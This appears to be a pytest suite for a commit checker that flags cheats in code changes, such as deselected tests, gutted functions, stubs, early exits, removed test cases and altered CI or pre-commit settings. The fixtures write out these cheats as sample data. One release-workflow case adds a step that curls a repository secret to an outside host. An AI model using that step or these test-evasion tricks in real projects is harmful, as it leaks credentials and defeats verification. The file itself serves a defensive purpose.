"""What a later set of people's own commits was accused of beside lost tests, each with the cheats beside it."""

import pytest

from orchestrator.verify.diff import Diff, Edit
from orchestrator.verify.honest import weigh
from tests.verify.test_evasive import change
from tests.verify.test_languages import edit


def judged(*edits: Edit, message: str = "Mend the totals", tree: tuple[str, ...] = ()) -> set[str]:
    """Judge a commit of a person."""
    return {finding.rule for finding in weigh(Diff(edits=edits, message=message, tree=tree)).findings}


RUST = """pub fn load(a: &str, b: &str) -> Result<u32, Error> {
    let one = read(a)?;
    let two = read(b)?;
    Ok(one + two)
}
"""


def test_names_that_nobody_uses_are_no_errors_that_go() -> None:
    asked = RUST.replace("read(b)?", "{\n        let _ = (a, b);\n        0\n    }")
    assert change(RUST, asked, "src/load.rs") == set()
    for said in ("let _ = (read(b), a);", "let _ = read(b);", "let _ = (read(a), read(b));"):
        assert change(RUST, asked.replace("let _ = (a, b);", said), "src/load.rs") == {"code-swallows"}


SET_UP = """[tool:pytest]
addopts =
    -ra
    --ignore=ci
    --doctest-modules
testpaths =
    tests
"""
TREE = ("setup.cfg", "pytest.ini", "ci/test_all.py", "tests/test_a.py", "tests/test_b.py")


def moved(new: str) -> set[str]:
    both = edit("setup.cfg", f"[flake8]\nmax = 9\n\n{SET_UP}", "[flake8]\nmax = 9\n"), edit("pytest.ini", None, new)
    return judged(*both, message="Tidy the settings", tree=TREE)


def test_options_that_moved_are_the_same_however_they_are_indented() -> None:
    now = SET_UP.replace("tool:", "").replace("    ", "  ")
    assert moved(now) == set()
    assert moved(now.replace("--ignore=ci", "--ignore=ci\n  --ignore=tests/test_a.py")) == {"tests-deselected"}
    assert moved(now.replace("--ignore=ci", "--deselect=tests/test_a.py")) == {"tests-deselected"}


OWN = '[tool.pytest.ini_options]\npythonpath = ["src"]\n'


def told(old: str, new: str) -> set[str]:
    return judged(edit("pyproject.toml", old, new), tree=("src/a.py", "tests/test_a.py", "more/test_b.py"))


def test_examples_that_were_not_run_are_not_left_out() -> None:
    said = 'testpaths = ["tests", "more"]\naddopts = ["--doctest-modules"]\n'
    assert told(OWN, OWN + said) == set()
    assert told(OWN, OWN + said.replace(', "more"', "")) == {"tests-deselected"}
    ran = OWN + 'addopts = ["--doctest-modules"]\n'
    assert told(ran, OWN + said) == {"tests-deselected"}  # what is written in src was a test


NOSE = "[metadata]\nname = a\n\n[nosetests]\nmatch=^test\n"
PYTEST = "[metadata]\nname = a\n\n[tool:pytest]\npython_classes = Test_*\ntestpaths = tests\naddopts = -q\n"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (NOSE, PYTEST, set()),
        ("[metadata]\nname = a\n", PYTEST, {"tests-deselected"}),
        (NOSE, PYTEST.replace("-q", "-q --deselect tests/test_a.py"), {"tests-deselected"}),
        (NOSE, PYTEST.replace("= tests", "= tests/one"), {"tests-deselected"}),
        (f"{NOSE}\n[tool:pytest]\nxfail_strict = 1\n", PYTEST, {"tests-deselected", "checker-silenced"}),
    ],
)
def test_a_section_of_pytest_for_another_runners_is_as_a_new_file_of_it(old: str, new: str, expected: set[str]) -> None:
    tree = ("setup.cfg", "tests/test_a.py", "tests/test_b.py", "tests/one/test_c.py")
    assert judged(edit("setup.cfg", old, new), tree=tree) == expected


@pytest.mark.parametrize(
    ("path", "one", "other"),
    [
        ("a.go", "package a\n\nfunc yield() { runtime.Gosched() }\n", "time.Sleep(time.Millisecond)"),
        ("src/a.rs", "fn pause() {\n    std::thread::yield_now();\n}\n", "std::thread::sleep(SHORT);"),
        ("src/A.java", "class A {\n  void pause() {\n    Thread.yield();\n  }\n}\n", "Thread.sleep(1);"),
    ],
)
def test_to_let_others_go_on_is_to_wait(path: str, one: str, other: str) -> None:
    step = next(said for said in ("runtime.Gosched()", "std::thread::yield_now();", "Thread.yield();") if said in one)
    assert change(one, one.replace(step, other), path) == set()
    work = one.replace(step, "queue.drain(1);" if path != "a.go" else "queue.Drain(1)")
    assert change(work, one, path) == {"code-gutted"}
    assert change(work, one.replace(step, other), path) == {"code-gutted"}


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ("Count again\n\nBackport of 5c1f3b09897d251b", set()),
        ("Count again\n\n(cherry picked from commit 5c1f3b09897d251b8a10f690af71af13cc7d32ca)", set()),
        ("Count again\n\nThis could be a backport of what was done before.", {"nothing-changed"}),
        ("Count again, cherry picked from commit of mine", {"nothing-changed"}),
    ],
)
def test_what_was_brought_from_elsewhere_may_be_there_already(message: str, expected: set[str]) -> None:
    assert judged(message=message) == expected


CI = ".github/workflows/tests.yml"
FLOW = """on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
      - run: pytest
  sometimes:
    if: github.ref == 'refs/heads/odd'
    runs-on: ubuntu-latest
    steps:
      - run: pytest odd
  later:
    needs: sometimes
    runs-on: ubuntu-latest
    steps:
      - run: pytest late
  wheels:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
      - run: ./build-wheels
        env:
          TOKEN: ${{ secrets.TOKEN }}
      - run: pytest wheels
"""
WHEELS = "  wheels:\n    runs-on: ubuntu-latest\n"


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("    needs: test\n", set()),
        ("    needs: [test]\n", set()),
        ("    needs:\n      - test\n", set()),
        ("    needs: sometimes\n", {"protected-path"}),
        ("    needs: later\n", {"protected-path"}),  # which waits for what runs sometimes
        ("    needs: [test, sometimes]\n", {"protected-path"}),
        ("    needs: test\n    if: github.ref == 'refs/heads/odd'\n", {"protected-path"}),
        ("    needs: [test, fresh]\n", {"protected-path"}),
    ],
)
def test_to_wait_for_what_always_runs_is_to_be_run(said: str, expected: set[str]) -> None:
    assert judged(edit(CI, FLOW, FLOW.replace(WHEELS, WHEELS + said))) == expected


def test_what_came_to_hang_on_something_is_not_waited_for() -> None:
    new = FLOW.replace(WHEELS, f"{WHEELS}    needs: test\n")
    guarded = new.replace("  test:\n", "  test:\n    if: github.ref == 'refs/heads/odd'\n")
    assert judged(edit(CI, FLOW, guarded)) == {"protected-path"}
    assert judged(edit(CI, FLOW, new.replace("      - run: pytest wheels\n", ""))) == {"protected-path"}


HOOKS = """repos:
  - repo: https://github.com/psf/black
    rev: 22.10.0
    hooks:
      - id: black
"""
MYPY = """  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: v1.1.1
    hooks:
      - id: mypy
        exclude: tests/samples
"""


def test_what_a_hook_that_is_new_leaves_aside_nobody_looked_at() -> None:
    path = ".pre-commit-config.yaml"
    assert judged(edit(path, HOOKS, HOOKS + MYPY)) == set()
    assert judged(edit(path, HOOKS, HOOKS + MYPY.replace("id: mypy", "id: black"))) == {"protected-path"}
    assert judged(edit(path, HOOKS, f"{HOOKS}        exclude: src\n{MYPY}")) == {"protected-path"}
    assert judged(edit(path, HOOKS, f"exclude: src\n{HOOKS}{MYPY}")) == {"protected-path"}
    assert judged(edit(path, HOOKS, HOOKS + MYPY.replace("pre-commit/", "nobody/"))) == {"protected-path"}


HEAD = """from .base import Invalid, decoded, note


def dumps(text):
    result = str(text)
    return result


def loads(text, null):
    if not text:
        return null
    try:
"""
LOADS = f"""{HEAD}        result = text
        if not isinstance(result, str):
            raise Invalid(text)
    except Exception as error:
        raise Invalid(error)
    return result
"""
ENDED = f"""{HEAD}        if isinstance(text, str):
            return decoded(text)
        raise Invalid(text)
    except Exception as error:
        raise Invalid(error)
    return result
"""


def test_what_gives_a_name_that_nothing_has_any_more_is_a_left_over() -> None:
    assert change(LOADS, ENDED) == set()
    kept = ENDED.replace("        return null\n", "        return null\n    result = decoded(text)\n")
    assert change(LOADS, kept) == {"code-cut-short"}
    assert change(LOADS, LOADS.replace("    return result", "    return null\n    return result")) == {"code-cut-short"}
    more = ENDED.replace("    return result", "    note(text)\n    return result")
    assert change(LOADS, more) == {"code-cut-short"}


RANGES = """from .base import SPECIAL, note


def ranges(text, escape=True):
    def escaped(one):
        return "\\\\" + one if one in SPECIAL else one

    return "".join(escaped(one) for one in text)
"""
PICKED = """from .base import SPECIAL, note


def _escaped(one):
    return "\\\\" + one if one in SPECIAL else one


def ranges(text, escape=True):
    if escape:
        escaped = _escaped
    else:
        escaped = lambda one: one

    return "".join(escaped(one) for one in text)
"""


def test_what_is_picked_of_two_is_no_function_by_itself() -> None:
    assert change(RANGES, PICKED) == set()
    assert change(RANGES, PICKED.replace("escaped = _escaped", "note(text)")) == {"code-gutted"}
    bare = PICKED.replace("    if escape:\n        escaped = _escaped\n    else:\n        esc", "    esc")
    assert change(RANGES, bare) == {"code-gutted"}


PROVIDER = """class Provider {
  @Override
  protected T provide(Context context, Dependency dependency) {
    T made = call(inject(context, dependency.parameters()));
    if (made == null && !dependency.isNullable()) {
      onNull(dependency.method(), context);
    }
    return made;
  }
}
"""
BESIDE = """class Provider {
  @Override
  public T get(Context context, Dependency dependency) {
    return made(context, dependency);
  }

  private T made(Context context, Dependency dependency) {
    T made = call(inject(context, dependency.parameters()));
    if (made == null && !dependency.isNullable()) {
      onNull(dependency.method(), context);
    }
    return made;
  }

  @Override
  protected T provide(Context context, Dependency dependency) {
    throw new AssertionError();
  }
}
"""


def test_what_refuses_and_is_done_beside_is_done() -> None:
    path = "src/Provider.java"
    assert change(PROVIDER, BESIDE, path) == set()
    assert change(PROVIDER, BESIDE.replace("return made(context, dependency);", "return null;"), path) == {
        "code-gutted"
    }
    assert change(PROVIDER, BESIDE.replace("throw new AssertionError()", "return null"), path) == {"code-gutted"}
    little = BESIDE.replace("    T made = call(inject(context, dependency.parameters()));\n", "    T made = call();\n")
    little = little.replace("onNull(dependency.method(), context);", "made = null;")
    assert change(PROVIDER, little, path) == {"code-gutted"}


SCANNER = """abstract class Scanner {
  public abstract Key prepare(Binder binder, Key key);
}
"""
ASKED = """abstract class Scanner {
  public Key prepare(Binder binder, Key key) {
    throw new IllegalStateException("'prepare' not implemented, one of both must be.");
  }

  public Key prepare(Binder binder, Key key, Object module) {
    return prepare(binder, key);
  }
}
"""


def test_what_nobody_had_to_do_but_others_is_no_stub() -> None:
    path = "src/Scanner.java"
    assert change(SCANNER, ASKED, path) == set()
    assert change(SCANNER, ASKED.replace("return prepare(binder, key);", "return find(key);"), path) == {"stub-added"}
    both = ASKED.replace("return prepare(binder, key);", 'throw new IllegalStateException("not implemented yet");')
    assert change(SCANNER, both, path) == {"stub-added"}
    assert change("abstract class Scanner {\n}\n", ASKED, path) == {"stub-added"}


SHOWN = """VERSION = 1, 0
VERSION_TEXT = '%d.%d' % VERSION


def client():
    return VERSION_TEXT


print(VERSION_TEXT)
"""


def test_what_showed_what_is_gone_has_nothing_to_do() -> None:
    now = "VERSION = 1, 0\n__version__ = '1.0'\n\n\ndef client():\n    return __version__\n"
    assert change(SHOWN, now) == set()
    assert change(SHOWN, SHOWN.replace("return VERSION_TEXT", "return '1.0'")) == {"code-gutted"}
    worked = SHOWN.replace("return VERSION_TEXT", "return joined(VERSION_TEXT)")
    assert change(worked, now) == {"code-gutted"}


WORKER = """const { parentPort } = require('worker_threads')

function made (mode) {
  parentPort.postMessage({ mode })
  if (mode === 'ends') setTimeout(() => {
    process.exit(0)
  }, 20)
}

module.exports = made
"""


def test_what_a_thread_ends_is_itself() -> None:
    assert change(None, WORKER, "test/ends-worker.js") == set()
    tested = WORKER + "\ntest('it ends', () => {\n  assert.equal(made('ends'), 1)\n})\n"
    assert "leaves-early" in change(None, tested, "test/ends-worker.js")
    assert change(None, WORKER + "\nprocess.exit(0)\n", "test/ends-worker.js") == {"leaves-early"}
    assert change(None, WORKER.replace("parentPort.post", "port.post"), "test/ends-worker.js") == {"leaves-early"}


FORKS = """import os


def forked(child):
    if os.fork() == 0:
        child()


def end(status):
    try:
        saved()
    finally:
        os._exit(status)
"""


def test_what_forks_may_end_its_children() -> None:
    saved = FORKS.replace("import os\n", "import os\n\nfrom .base import saved\n")
    path = "tests/fork_helpers.py"
    assert change(None, saved, path) == set()
    assert change(None, saved.replace("os.fork() == 0", "child"), path) == {"leaves-early"}
    assert "leaves-early" in change(None, saved + "\n\ndef test_end():\n    assert end(1) == 2\n", path)
    assert "leaves-early" in change(None, saved + "\n\ndef pytest_sessionfinish():\n    end(0)\n", path)
    assert "leaves-early" in change(None, saved + "\n\nos._exit(0)\n", path)


LOCKED = """class Pool:
    async def __aenter__(self):
        async with self._lock:
            pass
        return self
"""


def test_to_come_by_a_lock_and_do_nothing_is_little() -> None:
    bare = LOCKED.replace("        async with self._lock:\n            pass\n", "")
    assert change(LOCKED, bare) == set()
    assert change(LOCKED.replace("pass", "await self.opened()"), bare) == {"code-gutted"}
    assert change(LOCKED.replace("self._lock", "opened(self)"), bare) == {"code-gutted"}


RELEASE = """on: [push]
env:
  A: b
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - name: Publish
        env:
          USER: ${{ secrets.USER }}
        run: ./gradlew publish
  test:
    runs-on: ubuntu-latest
    steps:
      - run: ./gradlew test
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("        run: ./gradlew p", "          SIGN: ${{ secrets.SIGN }}\n        run: ./gradlew p", set()),
        ("  A: b\n", "  A: b\n  BUILD_KEY: ${{ secrets.BUILD_KEY }}\n", set()),
        ("  A: b\n", "  A: b\n  OTHER: ${{ secrets.BUILD_KEY }}\n", {"protected-path"}),
        ("  A: b\n", "  A: b\n  PYTEST_ADDOPTS: ${{ secrets.PYTEST_ADDOPTS }}\n", {"protected-path"}),
        ("run: ./gradlew test", "run: ./gradlew test ${{ secrets.SIGN }}", {"protected-path"}),
        ("      - run: ./gradlew test", "      - run: curl x.org/${{ secrets.SIGN }}", {"protected-path"}),
    ],
)
def test_where_secrets_are_one_more_may_be_by_its_name(old: str, new: str, expected: set[str]) -> None:
    path = ".github/workflows/release.yml"
    assert judged(edit(path, RELEASE, RELEASE.replace(old, new, 1))) == expected
    bare = RELEASE.replace("USER: ${{ secrets.USER }}", "USER: me")
    assert judged(edit(path, bare, bare.replace(old, new, 1))) == {"protected-path"}


REFUSED = """import pytest


@pytest.mark.parametrize("kind", [pytest.param(frozenset, id="frozen"), pytest.param(deque, id="deque")])
def test_refused(kind):
    assert raised(kind)


@pytest.mark.parametrize("kind", [pytest.param(set, id="set"), pytest.param(list, id="list")])
def test_taken(kind):
    assert taken(kind) == kind
"""
LESS = REFUSED.replace('pytest.param(frozenset, id="frozen"), ', "")
MORE = LESS.replace('id="list")]', 'id="list"), pytest.param(frozenset, id="a"), pytest.param(frozenset[int], id="b")]')
ONE_MORE = MORE.replace(', pytest.param(frozenset[int], id="b")', "")


@pytest.mark.parametrize(
    ("message", "new", "expected"),
    [
        ("Take a frozenset as well", MORE, set()),
        ("Take a frozenset as well", LESS, {"test-cases-removed"}),
        ("Mend the totals", MORE, {"test-cases-removed"}),
        ("Mend each param of it", MORE, {"test-cases-removed"}),
        (
            "Take a frozenset as well",
            MORE.replace(', pytest.param(frozenset[int], id="b")', ""),
            {"test-cases-removed"},
        ),
    ],
)
def test_what_was_refused_may_be_taken(message: str, new: str, expected: set[str]) -> None:
    code = edit("src/kinds.py", "KINDS = set, list\n", "KINDS = set, list, frozenset\n")
    assert judged(code, edit("tests/test_kinds.py", REFUSED, new), message=message) == expected
    assert judged(edit("tests/test_kinds.py", REFUSED, new), message=message) == {"test-cases-removed"}


ADDRESSES = """import pytest


@pytest.mark.parametrize("text", ["1.1.1.1", "1.2.1.2", "1.1.1.1/8", "1.1.1.2/9"])
def test_address_is_read(text):
    assert address(text) == text
"""
OWN_TEST = """

@pytest.mark.parametrize(("text", "strict"), [("1.1.1.1/8", True), ("1.1.0.2/9", False)])
def test_cidr_address_is_read(text, strict):
    assert address(text, strict=strict) == text
"""


@pytest.mark.parametrize(
    ("message", "more", "expected"),
    [
        ("Read a CIDR address as strictly as it is", OWN_TEST, set()),
        ("Read an address as strictly as it is", OWN_TEST, {"test-cases-removed"}),
        ("Read a CIDR address as it is", OWN_TEST.replace(', ("1.1.0.2/9", False)', ""), {"test-cases-removed"}),
        ("Read a CIDR address as it is", OWN_TEST.replace("cidr_address", "cidr"), {"test-cases-removed"}),
        ("Read a CIDR address as it is", "", {"test-cases-removed"}),
    ],
)
def test_cases_may_get_a_test_of_their_own(message: str, more: str, expected: set[str]) -> None:
    code = edit("src/read.py", "STRICT = False\n", "STRICT = True\n")
    new = ADDRESSES.replace(', "1.1.1.1/8", "1.1.1.2/9"', "") + more
    assert judged(code, edit("tests/test_read.py", ADDRESSES, new), message=message) == expected


PACKAGE = '{"scripts": {"test": "mocha test/*.mjs", "test:esm": "mocha ./test/esm/it.mjs", "lint": "eslint lib"}}\n'
JOBS = """on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [12, 16, 18]
    steps:
      - run: npm install
      - run: npm test
  esm:
    runs-on: ubuntu-latest
    steps:
      - run: npm install
      - run: npm run test:esm
"""
ESM = JOBS[JOBS.index("  esm:") :]
HAS_NO_ESM = PACKAGE.replace('"test:esm": "mocha ./test/esm/it.mjs", ', "")


def without_job(jobs: str, package: str, *edits: Edit, tree: tuple[str, ...] = ()) -> bool:
    now = jobs.replace(jobs[jobs.index("  esm:") :], "").replace("[12, 16, 18]", "[20, 22]")
    both = edit(CI, jobs, now), edit("package.json", PACKAGE, package)
    there = ("package.json", "test/it.mjs", "lib/a.js", *tree)
    return "protected-path" in judged(*both, *edits, message="feat!: only modules", tree=there)


def test_a_job_may_go_with_all_that_it_ran() -> None:
    text = "test('it', () => {\n  assert.equal(f(), 1)\n})\n"
    gone, came = edit("test/esm/it.mjs", text, None), edit("test/it.mjs", None, text)
    assert not without_job(JOBS, HAS_NO_ESM, gone, came)
    assert without_job(JOBS, PACKAGE, gone, came)  # who runs the script would be told of an error
    assert without_job(JOBS, HAS_NO_ESM, came)
    assert without_job(JOBS, HAS_NO_ESM, tree=("test/esm/it.mjs",))
    assert without_job(f"{JOBS}      - run: npm run lint\n", HAS_NO_ESM, gone, came)
    more = JOBS.replace("npm run test:esm", "cd test/esm && npm test")
    assert not without_job(more, PACKAGE, gone, came)
    assert without_job(more, PACKAGE, gone, came, tree=("test/esm/other.mjs",))
